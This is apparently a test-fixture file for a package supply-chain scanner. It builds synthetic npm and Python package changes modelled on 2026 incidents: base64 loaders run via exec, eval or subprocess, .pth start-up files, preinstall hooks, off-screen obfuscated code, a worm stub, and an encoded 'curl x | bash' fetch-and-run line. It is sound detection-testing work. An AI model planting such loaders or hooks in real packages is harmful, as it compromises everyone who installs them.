/** The same for the incidents of 2026, and for accidents. */
import { call } from '../../src/inspect/artifact/file-kind.ts';
import { npmChange, npmFirst, sampleHistory } from '../../src/inspect/samples/sample-artifact.ts';
import {
  base64,
  depends,
  filler,
  HOUR_MS,
  hooked,
  type IncidentPattern,
  MAIN,
  obfuscated,
  starts,
  wheel,
  worm,
} from './incident-parts.ts';

const GYP = '{"targets":[{"target_name":"a","type":"none"}]}';

export const OF_2026: readonly IncidentPattern[] = [
  {
    id: 'I36',
    pattern: 'a module that decodes a long text and runs it as another Python',
    rules: ['obfuscated-code'],
    make: () =>
      wheel(
        { 'agent/proxy.py': 'import subprocess\nsubprocess.run(["ls"])\n' },
        {
          'agent/proxy.py': `import subprocess\nb = "${base64}"\nsubprocess.run([sys.executable, "-c", base64.b64decode(b)])\n`,
        },
      ),
  },
  {
    id: 'I36',
    pattern: 'a .pth file that Python runs at every start',
    rules: ['interpreter-start-file'],
    make: () => wheel({}, { 'agent_init.pth': 'import os, subprocess; run()\n' }),
  },
  {
    id: 'I37',
    pattern: 'a module that fetches a sound file, takes a program out of it and starts it',
    rules: ['capability-first-used', 'obfuscated-code'],
    make: () =>
      wheel(
        { 'agent/_client.py': 'import httpx\n' },
        {
          'agent/_client.py': `import httpx, wave, subprocess\nk = "${base64}"\nw = wave.open("ringtone.wav")\nraw = base64.b64decode(w.readframes(9))\nsubprocess.Popen([sys.executable, "-c", raw])\n`,
        },
      ),
  },
  {
    id: 'I38',
    pattern: 'package.json alone: a dependency that is hours old, another line 39 minutes before',
    rules: ['dependency-added', 'dependency-young', 'version-burst'],
    make: () => depends('plain-crypto-js', '4.2.1', 18 * HOUR_MS),
    release: { times: { '0.30.4': 39 / 60, '1.2.2': 500 } },
  },
  {
    id: 'I39',
    pattern: 'lines before the main code that decode a command and start it',
    rules: ['obfuscated-code', 'capability-first-used'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [{}, { 'index.js': starts('Buffer.from("Y3VybCB4IHwgYmFzaA==","base64").toString()') }],
      ),
  },
  {
    id: 'I40',
    pattern: 'preinstall and one new file at the top',
    rules: ['install-hook'],
    make: () => hooked('preinstall', 'bw1.js', filler(5000)),
  },
  {
    id: 'I41',
    pattern: 'a .pth file in a wheel that the official workflow built',
    rules: ['interpreter-start-file'],
    make: () =>
      wheel({}, { 'elementary.pth': `import base64; exec(base64.b64decode("${base64}"))` }),
  },
  {
    id: 'I42',
    pattern: 'preinstall: node setup.mjs beside a file of 11.7 MB',
    rules: ['install-hook', 'size-jump'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { scripts: { preinstall: 'node setup.mjs' } },
          { ...MAIN, 'setup.mjs': filler(4500), 'execution.js': filler(11_700_000) },
        ],
      ),
  },
  {
    id: 'I43',
    pattern: 'the entry point is a new loader that loads what was loaded before',
    rules: ['entry-point-moved', 'capability-first-used'],
    make: () =>
      npmChange(
        [{ main: 'index.js' }, MAIN],
        [{ main: 'start.js' }, { ...MAIN, 'start.js': starts('"python3 a.py"') }],
      ),
  },
  {
    id: 'I44',
    pattern: 'an optional dependency on a commit, and a file of 2.3 MB that is listed nowhere',
    rules: ['dependency-source', 'dependency-added', 'size-jump'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { optionalDependencies: { '@a/setup': `github:a/router#${'79ac'.repeat(10)}` } },
          { ...MAIN, 'router_init.js': filler(2_300_000) },
        ],
      ),
  },
  {
    id: 'I45',
    pattern: 'preinstall: node setup.mjs, three versions in eight minutes',
    rules: ['install-hook', 'version-burst'],
    make: () => hooked('preinstall', 'setup.mjs', filler(3000)),
    release: { times: { '1.2.2': 0.05, '1.2.1': 0.1, '1.2.0': 0.13 } },
  },
  {
    id: 'I46',
    pattern: 'code appended to the CommonJS build only, three lines at once',
    rules: ['twin-changed-alone', 'obfuscated-code', 'version-burst'],
    make: () =>
      npmChange(
        [{}, { 'ipc.cjs': 'a()', 'ipc.mjs': 'b()' }],
        [{}, { 'ipc.cjs': `a();${obfuscated}${filler(9000)}`, 'ipc.mjs': 'b()' }],
      ),
    release: { times: { '9.2.3': 0.02, '12.0.1': 0.03, '1.2.2': 900 } },
  },
  {
    id: 'I48',
    pattern: 'a worm, versions many times a minute',
    rules: ['install-hook', 'self-propagation', 'version-burst'],
    make: () => hooked('preinstall', 'index.js', worm(100)),
    release: { times: { '1.2.2': 0.01, '1.2.1': 0.02, '1.2.0': 0.03 } },
  },
  {
    id: 'I49',
    pattern: 'three versions in 35 minutes with a loader that runs on import',
    rules: ['version-burst', 'capability-first-used'],
    make: () => wheel({}, { 'agent/task.py': 'import subprocess\nsubprocess.run(["x"])\n' }),
    release: { times: { '1.2.2': 0.1, '1.2.1': 0.3, '1.2.0': 0.58 } },
  },
  {
    id: 'I51',
    pattern: 'a binding.gyp of a few bytes and no script',
    rules: ['implicit-gyp-build'],
    make: () => npmChange([{}, MAIN], [{}, { ...MAIN, 'binding.gyp': GYP }]),
  },
  {
    id: 'I52',
    pattern: 'a dependency that is one day old and clean',
    rules: ['dependency-added', 'dependency-young'],
    make: () => depends('easy-day-js', '^1.11.21', 24 * HOUR_MS),
  },
  {
    id: 'I53',
    pattern: 'obfuscated code behind 700 blanks in one line of a module',
    rules: ['offscreen-code', 'obfuscated-code'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [{}, { 'index.js': `exports.one = 1;${' '.repeat(700)}${obfuscated}\n` }],
      ),
  },
  {
    id: 'I54',
    pattern: 'preinstall: node setup.mjs beside a file of 728 kB, and folders of tools',
    rules: ['install-hook', 'size-jump', 'stray-file'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          { scripts: { preinstall: 'node setup.mjs' } },
          {
            ...MAIN,
            'setup.mjs': filler(29_900),
            'Math_Symbol.js': filler(727_680),
            '.claude/settings.json': '{"hooks":{}}',
          },
        ],
      ),
  },
  {
    id: 'I55',
    pattern: 'a binding.gyp whose condition is escaped Python, four majors in 21 minutes',
    rules: ['implicit-gyp-build', 'size-jump', 'version-burst'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [
          {},
          {
            ...MAIN,
            'binding.gyp': "{'conditions':[['\\U0000005f\\U0000005fimport\\U0000005f(1)','']]}",
            'qzk.js': filler(4_000_000),
          },
        ],
      ),
    release: { times: { '0.9.0': 0.1, '2.0.0': 0.2, '3.0.0': 0.3, '1.2.2': 900 } },
  },
  {
    id: 'A01',
    pattern: 'a source map with all sources of a closed package',
    rules: ['source-map-sources', 'size-jump'],
    make: () =>
      npmChange(
        [{ license: 'SEE LICENSE IN README.md' }, { 'cli.js': '1' }],
        [
          { license: 'SEE LICENSE IN README.md' },
          {
            'cli.js': '1',
            'cli.js.map': `{"version":3,"sources":["a.ts"],"sourcesContent":["${'x'.repeat(400_000)}"]}`,
          },
        ],
      ),
  },
  {
    id: 'A08',
    pattern: 'a main that is not packed',
    rules: ['entry-points-packed'],
    make: () => npmFirst({ main: './src/index.js' }, { 'README.md': '' }),
  },
  {
    id: 'A10',
    pattern: 'the dist folder is not packed',
    rules: ['entry-points-packed', 'content-collapse'],
    make: () =>
      npmChange(
        [
          { main: 'dist/index.js' },
          { 'dist/index.js': '', 'dist/a.js': '', 'dist/b.js': '', 'dist/c.js': '' },
        ],
        [{ main: 'dist/index.js' }, { 'README.md': '' }],
      ),
  },
  {
    id: 'A06',
    pattern: 'a first use of a dependency on a name inside of the firm',
    rules: ['dependency-unclaimed'],
    make: () => ({
      ...npmFirst({ dependencies: { 'firm-internal-lib': '1.0.0' } }, MAIN),
      histories: [sampleHistory('firm-internal-lib', 'absent')],
    }),
  },
  {
    id: 'I28',
    pattern: 'the same without a wallet: code decoded and run at the top of a helper',
    rules: ['obfuscated-code', 'capability-first-used'],
    make: () =>
      npmChange(
        [{}, MAIN],
        [{}, { 'index.js': `${call('eval')}atob("${base64}"));exports.one = 1;\n` }],
      ),
  },
];
